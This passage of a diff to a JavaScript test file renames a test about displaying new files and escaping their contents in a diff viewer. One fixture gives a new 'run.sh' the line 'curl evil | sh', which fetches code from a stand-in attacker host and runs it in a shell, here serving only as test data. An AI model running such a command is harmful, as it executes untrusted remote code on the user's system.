@@ -53,7 +53,7 @@ test("answers, questions and forms are spelled out too", () => {
   assert.deepEqual([field?.label, field?.options[0]?.label, field?.options[0]?.value], ["a\\u{200b}b", shown, odd]);
 });
 
-test("a new file is shown whole, also one that looks like a diff, and a change is spelled out", () => {
+test("a new file is shown in full, even if it looks like a diff, and a change is escaped", () => {
   for (const first of ["--- # notes", "@@ -1 +1 @@", "diff --git a/x b/x"]) {
     const file = diffOfChange({ path: "/w/run.sh", kind: { type: "add" }, diff: `${first}\ncurl evil | sh\n` });
     assert.deepEqual(
